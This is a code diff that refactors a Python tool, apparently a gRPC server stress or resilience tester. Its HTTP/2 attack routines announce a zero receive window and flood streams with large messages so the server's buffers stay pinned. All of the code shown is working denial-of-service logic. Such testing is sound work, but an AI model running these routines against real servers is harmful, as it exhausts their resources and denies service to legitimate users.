@@ -331,99 +331,15 @@ def varint(n):
             return out + bytes([byte])
 
 
-def attack_zero_window(args, report, deadline):
-    """A receive window of 0, then bidi streams each sending one START
-    message of --message-size bytes (within the server's flow control, with
-    h2's state machine): the server can never send its reply, so whatever
-    it keeps for a stream stays until the stream ends."""
+def zero_window_machines(args, report, deadline):
+    """--connections connections, each with an h2 state machine that
+    announced a receive window of 0 (the server can send no DATA)."""
     from h2.config import H2Configuration
     from h2.connection import H2Connection
-    from h2.events import ConnectionTerminated, StreamReset
     from h2.settings import SettingCodes
 
-    body = b"\x22" + varint(args.message_size) + b"x" * args.message_size
-    message = grpc_message(body)
-    conns = open_conns(args, report, deadline)
     machines = []
-    for conn in conns:
-        machine = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
-        machine.initiate_connection()
-        machine.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
-        machine.pending = {}  # stream id -> bytes still to send
-        machine.opened = 0
-        machines.append((conn, machine))
-        conn.send(machine.data_to_send())
-
-    headers = [(":method", "POST"), (":scheme", "http"), (":path", ITER),
-               (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
-    rounds = 0
-    while time.monotonic() < deadline and rounds < 1_000_000:
-        rounds += 1
-        busy = False
-        for conn, machine in machines:
-            if conn.closed:
-                continue
-            try:
-                data = conn.sock.recv(65536)
-                if not data:
-                    conn.mark_closed()
-                    continue
-                for event in machine.receive_data(data):
-                    if isinstance(event, ConnectionTerminated):
-                        conn.count("goaway", event.error_code)
-                    elif isinstance(event, StreamReset):
-                        conn.count("rst", event.error_code)
-                        machine.pending.pop(event.stream_id, None)
-            except BlockingIOError:
-                pass
-            except Exception:  # the server closed or refused: counted below
-                conn.mark_closed()
-                continue
-            if machine.opened < args.streams and len(machine.pending) < 8:
-                stream = machine.get_next_available_stream_id()
-                machine.send_headers(stream, headers)
-                machine.pending[stream] = message
-                machine.opened += 1
-                report["streams"] += 1
-            for stream, rest in list(machine.pending.items()):
-                try:
-                    window = min(machine.local_flow_control_window(stream),
-                                 machine.max_outbound_frame_size)
-                except Exception:
-                    machine.pending.pop(stream, None)
-                    continue
-                if window > 0:
-                    machine.send_data(stream, rest[:window])
-                    rest = rest[window:]
-                    busy = True
-                if rest:
-                    machine.pending[stream] = rest
-                else:
-                    del machine.pending[stream]
-            out = machine.data_to_send()
-            if out and not conn.send(out):
-                continue
-        if not busy:
-            time.sleep(0.002)
-    return conns
-
-
-def attack_large_response(args, report, deadline):
-    """A receive window of 0, then up to --streams sayHello calls per
-    connection, each with a --message-size name (so a reply as large), at
-    most 8 unanswered sends at a time; the replies are never read: whatever
-    the server keeps for a reply it cannot send stays until the stream or
-    the connection ends. Ends early once the server closed every connection."""
-    from h2.config import H2Configuration
-    from h2.connection import H2Connection
-    from h2.events import ConnectionTerminated, StreamReset, StreamEnded
-    from h2.settings import SettingCodes
-
-    body = b"\x0a" + varint(args.message_size) + b"x" * args.message_size
-    message = grpc_message(body)
-    conns = open_conns(args, report, deadline)
-    machines = []
-    for conn in conns:
+    for conn in open_conns(args, report, deadline):
         machine = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
         machine.initiate_connection()
         machine.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
@@ -432,13 +348,131 @@ def attack_large_response(args, report, deadline):
         machine.full = False  # at the server's concurrent-stream limit
         machines.append((conn, machine))
         conn.send(machine.data_to_send())
+    return machines
 
-    headers = [(":method", "POST"), (":scheme", "http"), (":path", HELLO),
+
+def receive(conn, machine, report):
+    """Feeds what arrived to the machine: GOAWAY and RST_STREAM counted,
+    streams that ended or were reset dropped from `pending`, grpc-status
+    of answers counted in report["answered"]. False once closed."""
+    from h2.events import ConnectionTerminated, StreamEnded, StreamReset
+
+    try:
+        data = conn.sock.recv(65536)
+        if not data:
+            conn.mark_closed()
+            return False
+        for event in machine.receive_data(data):
+            if isinstance(event, ConnectionTerminated):
+                conn.count("goaway", event.error_code)
+            elif isinstance(event, StreamReset):
+                conn.count("rst", event.error_code)
+                machine.pending.pop(event.stream_id, None)
+            elif isinstance(event, StreamEnded):
+                machine.pending.pop(event.stream_id, None)
+            for name, value in getattr(event, "headers", None) or []:
+                if name == "grpc-status" and "answered" in report:
+                    report["answered"][value] = report["answered"].get(value, 0) + 1
+    except BlockingIOError:
+        pass
+    except Exception:  # the server closed or refused: counted below
+        conn.mark_closed()
+        return False
+    return True
+
+
+def open_stream(machine, report, path, message):
+    """Opens a stream for `path` whose request is `message` (sent as the
+    window allows, by `send_pending`); at the server's stream limit, marks
+    the machine full instead."""
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
                (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
+    try:
+        stream = machine.get_next_available_stream_id()
+        machine.send_headers(stream, headers)
+    except Exception:  # over the server's concurrent streams
+        machine.full = True
+        return
+    machine.full = False
+    machine.pending[stream] = message
+    machine.opened += 1
+    report["streams"] += 1
+
+
+def send_pending(machine, end_stream):
+    """Sends what the window allows of each pending request (ending the
+    stream with its last byte if `end_stream`). True if anything went."""
+    sent = False
+    for stream, rest in list(machine.pending.items()):
+        try:
+            window = min(machine.local_flow_control_window(stream),
+                         machine.max_outbound_frame_size)
+            if window > 0:
+                chunk, rest = rest[:window], rest[window:]
+                machine.send_data(stream, chunk, end_stream=end_stream and not rest)
+                sent = True
+        except Exception:  # the stream (or the connection) is closed
+            machine.pending.pop(stream, None)
+            continue
+        if rest:
+            machine.pending[stream] = rest
+        else:
+            del machine.pending[stream]
+    return sent
+
+
+def wait_for_data(machines):
+    """Nothing to send: waits (at most 50 ms) for the server to send
+    something on any open connection."""
+    socks = [conn.sock for conn, _ in machines if not conn.closed]
+    if socks:
+        selector = selectors.DefaultSelector()
+        for sock in socks:
+            selector.register(sock, selectors.EVENT_READ)
+        selector.select(0.05)
+        selector.close()
+
+
+def attack_zero_window(args, report, deadline):
+    """A receive window of 0, then bidi streams each sending one START
+    message of --message-size bytes (within the server's flow control, with
+    h2's state machine): the server can never send its reply, so whatever
+    it keeps for a stream stays until the stream ends."""
+    body = b"\x22" + varint(args.message_size) + b"x" * args.message_size
+    message = grpc_message(body)
+    machines = zero_window_machines(args, report, deadline)
+    rounds = 0
+    while time.monotonic() < deadline and rounds < 1_000_000:
+        rounds += 1
+        busy = False
+        for conn, machine in machines:
+            if conn.closed or not receive(conn, machine, report):
+                continue
+            if machine.opened < args.streams and len(machine.pending) < 8:
+                open_stream(machine, report, ITER, message)
+            busy |= send_pending(machine, end_stream=False)
+            out = machine.data_to_send()
+            if out:
+                conn.send(out)
+        if not busy:
+            wait_for_data(machines)
+    return [conn for conn, _ in machines]
+
+
+def attack_large_response(args, report, deadline):
+    """A receive window of 0, then up to --streams sayHello calls per
+    connection, each with a --message-size name (so a reply as large), at
+    most 8 unanswered sends at a time; the replies are never read: whatever
+    the server keeps for a reply it cannot send stays until the stream or
+    the connection ends. Ends early once the server closed every connection,
+    or (--until-sent) once every call is sent."""
+    body = b"\x0a" + varint(args.message_size) + b"x" * args.message_size
+    message = grpc_message(body)
+    machines = zero_window_machines(args, report, deadline)
     report["answered"] = {}
     rounds = 0
     while time.monotonic() < deadline and rounds < 1_000_000:
-        if conns and all(conn.closed for conn in conns):
+        if machines and all(conn.closed for conn, _ in machines):
             break  # the server closed every connection: nothing more to try
         if args.until_sent and all((machine.opened >= args.streams or machine.full)
                                    and not machine.pending
@@ -447,64 +481,21 @@ def attack_large_response(args, report, deadline):
         rounds += 1
         busy = False
         for conn, machine in machines:
-            if conn.closed:
+            if conn.closed or not receive(conn, machine, report):
                 continue
-            try:
-                data = conn.sock.recv(65536)
-                if not data:
-                    conn.mark_closed()
-                    continue
-                for event in machine.receive_data(data):
-                    if isinstance(event, ConnectionTerminated):
-                        conn.count("goaway", event.error_code)
-                    elif isinstance(event, StreamReset):
-                        conn.count("rst", event.error_code)
-                        machine.pending.pop(event.stream_id, None)
-                    elif isinstance(event, StreamEnded):
-                        machine.pending.pop(event.stream_id, None)
-                    status = getattr(event, "headers", None)
-                    for name, value in status or []:
-                        if name == "grpc-status":
-                            report["answered"][value] = report["answered"].get(value, 0) + 1
-            except BlockingIOError:
-                pass
-            except Exception:  # the server closed or refused: counted below
-                conn.mark_closed()
-                continue
-            if machine.opened < args.streams and len(machine.pending) < 8:
-                try:
-                    stream = machine.get_next_available_stream_id()
-                    machine.send_headers(stream, headers)
-                    machine.pending[stream] = message
-                    machine.opened += 1
-                    report["streams"] += 1
-                    busy = True
-                except Exception:  # over the server's concurrent streams
-                    machine.full = True
             if machine.state_machine.state.name == "CLOSED":  # a GOAWAY came
                 conn.mark_closed()
                 continue
-            for stream, rest in list(machine.pending.items()):
-                try:
-                    window = min(machine.local_flow_control_window(stream),
-                                 machine.max_outbound_frame_size)
-                    if window > 0:
-                        chunk, rest = rest[:window], rest[window:]
-                        machine.send_data(stream, chunk, end_stream=not rest)
-                        busy = True
-                except Exception:  # the stream (or the connection) is closed
-                    machine.pending.pop(stream, None)
-                    continue
-                if rest:
-                    machine.pending[stream] = rest
-                else:
-                    del machine.pending[stream]
+            if machine.opened < args.streams and len(machine.pending) < 8:
+                open_stream(machine, report, HELLO, message)
+                busy = True
+            busy |= send_pending(machine, end_stream=True)
             out = machine.data_to_send()
-            if out and not conn.send(out):
-                continue
+            if out:
+                conn.send(out)
         if not busy:
-            time.sleep(0.002)
-    return conns
+            wait_for_data(machines)
+    return [conn for conn, _ in machines]
 
 
 def attack_announced_length(args, report, deadline):
